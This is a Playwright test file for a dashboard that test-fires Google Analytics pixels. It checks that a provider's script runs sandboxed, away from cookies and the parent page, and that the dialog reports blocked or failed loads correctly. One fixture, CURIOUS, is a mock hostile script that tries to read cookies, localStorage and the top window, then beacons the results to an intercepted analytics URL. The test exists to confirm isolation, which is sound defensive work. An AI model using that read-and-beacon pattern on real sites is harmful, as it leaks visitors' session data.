import type { Page } from "@playwright/test";
import { api, expect, type Person, person, serverUrl, signIn, test } from "./fixtures";

const TAG = "G-4KQ8ZW1X7T";
const SCRIPT = "https://www.googletagmanager.com/**";
const REPORT = "https://region1.google-analytics.com/**";

/** A provider's script that looks for what it must not reach, and reports what became of it. */
const CURIOUS = `
const tried = [() => document.cookie, () => parent.document.title, () => localStorage.length, () => top.location.href]
  .map((look) => { try { return String(look()) } catch (error) { return error.name } });
new Image().src = "https://region1.google-analytics.com/g/collect?tried=" + tried;`;

let ada: Person;
test.beforeEach(async ({ page }) => {
  ada = await person();
  await signIn(page, ada);
  await api(ada.key).post("/api/pixel/add", { type: "analyticspixel", name: "Shop", tag: TAG });
  await page.goto(`${serverUrl()}/dashboard/pixels`);
});

/** Opens the test of the pixel from its row. */
async function fire(page: Page) {
  await page.getByRole("button", { name: "Actions for Shop" }).click();
  await page.getByRole("menuitem", { name: "Test" }).click();
  return page.getByRole("dialog", { name: "Test Shop" });
}

test("a pixel that works is fired once, and its script reaches neither cookies nor the dashboard", async ({
  page,
}) => {
  await page.route(SCRIPT, (route) => route.fulfill({ contentType: "text/javascript", body: CURIOUS }));
  const told: string[] = [];
  await page.route(REPORT, (route) => {
    told.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  const asked = page.waitForRequest(/googletagmanager/);
  const dialog = await fire(page);
  await expect(dialog.getByText("Google Analytics was told of a visit")).toBeVisible();
  const requests = dialog.getByRole("region", { name: "What left the page" }).getByRole("listitem");
  await expect(requests).toHaveText(["www.googletagmanager.comscript", "region1.google-analytics.comreport"]);
  const headers = await (await asked).allHeaders();
  expect((await asked).url()).toContain(TAG);
  expect([headers.cookie, headers.referer]).toEqual([undefined, undefined]);
  const errors = new URL(told[0] ?? "").searchParams.get("tried");
  expect([told.length, errors]).toEqual([1, "SecurityError,SecurityError,SecurityError,SecurityError"]);
});

test("a pixel that is blocked, or whose tag its provider refuses, says which of the two it is", async ({
  page,
}) => {
  await page.route(SCRIPT, (route) => route.abort());
  const dialog = await fire(page);
  await expect(dialog.getByText("Nothing answered")).toBeVisible();
  await page.unroute(SCRIPT);
  await page.route(SCRIPT, (route) => route.fulfill({ status: 404, body: "no such tag" }));
  await dialog.getByRole("button", { name: "Fire again" }).click();
  await expect(dialog.getByText("Google Analytics answered, but not with a script")).toBeVisible();
  await page.unroute(SCRIPT);
  await page.route(SCRIPT, (route) => route.fulfill({ contentType: "text/javascript", body: "" }));
  await dialog.getByRole("button", { name: "Fire again" }).click();
  await expect(dialog.getByText("The script loaded and sent nothing")).toBeVisible();
});

test("the form fires what is saved, and not what is being typed", async ({ page }) => {
  await page.route(SCRIPT, (route) => route.abort());
  await page.getByRole("button", { name: "Shop", exact: true }).click();
  const form = page.getByRole("dialog", { name: "Edit pixel" });
  await form.getByLabel("Tag").fill("G-0000000000");
  await expect(form.getByRole("button", { name: "Test" })).toBeDisabled();
  await form.getByLabel("Tag").fill(TAG);
  await form.getByRole("button", { name: "Test" }).click();
  await expect(page.getByRole("dialog", { name: "Test Shop" }).getByText("Nothing answered")).toBeVisible();
});
